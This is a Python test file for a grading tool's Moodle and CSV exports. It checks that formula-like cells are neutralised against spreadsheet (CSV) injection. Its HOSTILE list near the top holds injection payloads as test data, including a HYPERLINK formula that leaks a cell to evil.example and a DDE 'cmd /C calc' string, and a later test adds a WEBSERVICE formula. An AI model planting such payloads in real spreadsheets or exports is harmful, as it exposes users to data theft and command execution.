"""LMS export (Moodle grade import, generic CSV) and spreadsheet-safe cells (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from labreport.config import loader
from labreport.grading import grade, lms, rubric
from labreport.grading.grade import Grade, PartGrade

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1",
           "\r=1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_shown_as_text(text):
    assert lms.safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Group 3", "-0.5", "12", "3.25", "", "Ada, Alan", "a=b", "O'Neil"])
def test_ordinary_cells_and_numbers_are_kept(text):
    assert lms.safe_cell(text) == text


def graded_class(authors, ids, title="PW04", group="Group 3") -> grade.ClassGrades:
    g = Grade("sub/g3.pdf", title=title, group=group, authors=tuple(authors), author_ids=tuple(ids),
              parts=tuple(PartGrade(p, 3, 3, f"{p}-a", f"{p}-a", 0.9) for p in ("raw", "hog", "cnn", "fashion")),
              questions=("q1", "q2", "q3", "q4"), quick=True)
    return grade.assess([g, Grade("sub/broken.pdf", error="not a PDF file")], rubric.DEFAULT)


def test_moodle_csv_one_row_per_student_with_id_grade_and_feedback():
    cg = graded_class(["Ada Lovelace", "Alan Turing", "No Id"], ["s001", "s002", ""])
    rows, nobody = grade.students(cg)
    export = lms.export("moodle", rows)
    table = list(csv.reader(io.StringIO(export.text)))
    assert table[0] == ["ID number", "Full name", "Grade", "Feedback"]
    # 8 variants + 2 chosen + 6 questions + 4 verified - 5 quick = 15 of 20
    feedback = "15.00 / 20. penalty quick: smoke runs (--quick) (-5)"
    assert table[1:] == [["s001", "Ada Lovelace", "15.00", feedback], ["s002", "Alan Turing", "15.00", feedback]]
    assert export.missing == ("No Id (Group 3)",)
    assert nobody == ["sub/broken.pdf"]  # no author to give a grade to


def test_moodle_uses_the_email_column_when_every_id_is_an_email():
    cg = graded_class(["Ada", "Alan"], ["ada@uni.example", "alan@uni.example"])
    text = lms.export("moodle", grade.students(cg)[0]).text
    assert text.splitlines()[0] == "Email address,Full name,Grade,Feedback"


def test_generic_csv_and_hostile_cells_in_every_export():
    cg = graded_class(["=1+1", "@Ada"], ["-5", "+33 6 12"], title="=WEBSERVICE(\"http://x\")", group="-Group")
    generic = list(csv.DictReader(io.StringIO(lms.export("csv", grade.students(cg)[0]).text)))
    assert [(r["student_id"], r["name"], r["group"]) for r in generic] == [
        ("-5", "'=1+1", "'-Group"), ("'+33 6 12", "'@Ada", "'-Group")]  # "-5" is a plain number
    moodle = list(csv.reader(io.StringIO(lms.export("moodle", grade.students(cg)[0]).text)))
    assert [r[:2] for r in moodle[1:]] == [["-5", "'=1+1"], ["'+33 6 12", "'@Ada"]]
    row = next(csv.DictReader(io.StringIO(grade.to_csv(list(cg.grades), cg))))
    assert (row["title"], row["group"], row["authors"], row["author ids"]) == (
        "'=WEBSERVICE(\"http://x\")", "'-Group", "'=1+1, @Ada", "'-5, +33 6 12")
    for cells in (r.values() for r in generic):
        assert not any(c.startswith(lms.FORMULA_START) and not lms.PLAIN_NUMBER.match(c) for c in cells)


def test_authors_with_ids_reach_the_grade_from_the_config(tmp_path):
    (tmp_path / "e.toml").write_text(
        '[report]\nauthors = ["Ada", { name = "Alan", id = "at01" }]\n'
        '[[experiment]]\nname = "a"\npart = "raw"\nhidden = 4\nactivation = "relu"\nbatch_size = 8\nepochs = 1\n')
    meta = loader.load(tmp_path / "e.toml").report
    assert (meta.authors, meta.author_ids) == (("Ada", "Alan"), ("", "at01"))


@pytest.mark.parametrize("value, message", [
    ('["Ada", 3]', "author 2: expected a string or a { name = ..., id = ... } table, got an integer"),
    ('[{ id = "x" }]', "author 1: 'name' must be a non-empty string"),
    ('[{ name = "A", mail = "x" }]', "author 1: unknown key 'mail' (expected 'name' and 'id')"),
    ('"Ada"', "expected an array of names or { name = ..., id = ... } tables, got a string"),
])
def test_bad_authors_are_config_errors(tmp_path, value, message):
    (tmp_path / "e.toml").write_text(
        f'[report]\nauthors = {value}\n'
        '[[experiment]]\nname = "a"\npart = "raw"\nhidden = 4\nactivation = "relu"\nbatch_size = 8\nepochs = 1\n')
    with pytest.raises(loader.ConfigError) as e:
        loader.load(tmp_path / "e.toml")
    assert e.value.errors == [f"{tmp_path / 'e.toml'}:2: [report]: key 'authors': {message}"]
